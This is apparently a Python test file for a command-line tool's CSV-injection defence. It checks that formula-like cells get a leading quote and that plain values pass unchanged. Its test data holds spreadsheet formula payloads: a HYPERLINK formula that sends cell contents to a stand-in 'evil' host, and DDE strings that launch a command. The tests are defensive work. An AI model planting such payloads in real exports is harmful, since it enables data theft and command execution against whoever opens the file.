"""Is a text that a spreadsheet would evaluate kept from it, and all else as it is?"""

import csv
import io

import pytest
import yaml

from kadmin.csv_cells import csv_line, unevaluated
from kadmin.render.output import Document, Output
from kadmin.settings.keys import OutputFormat

FORMULAS = (
    '=HYPERLINK("http://evil/"&A1,"orders")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-topic-0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tx",
    "\x00=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    "-1\n",
    "--1",
    "-1-1",
    "=\n1",
)
PLAIN = ("orders", "", "-", "a=b", "1-2", "-1", "+1", "-1.5", "-1e5", ".5", "User:CN=x", "'=1")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert f"'{text}" == unevaluated(text)


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert text == unevaluated(text)


def test_every_result_as_csv_has_no_formula_and_as_json_the_value_itself() -> None:
    rows: list[tuple[object, ...]] = [(text, -1, -0.5, True, None) for text in FORMULAS]
    document = Document(
        schema="kadmin.test/1",
        body=lambda: {"rows": rows},
        columns=("name", "leader", "rate", "live", "rack"),
        rows=lambda: rows,
        lines=lambda: [],
    )
    stdout, raw = io.StringIO(newline=""), io.StringIO()

    Output(form=OutputFormat.CSV, stdout=stdout).show(document)
    Output(form=OutputFormat.YAML, stdout=raw).show(document)

    _, *cells = csv.reader(io.StringIO(stdout.getvalue(), newline=""))
    assert [[f"'{text}", "-1", "-0.5", "true", ""] for text in FORMULAS] == cells
    assert [list(row) for row in rows] == yaml.safe_load(raw.getvalue())["rows"]


def test_half_of_a_surrogate_pair_is_shown_as_its_escape():
    assert "\\ud800,é\n" == csv_line(["\ud800", "é"])
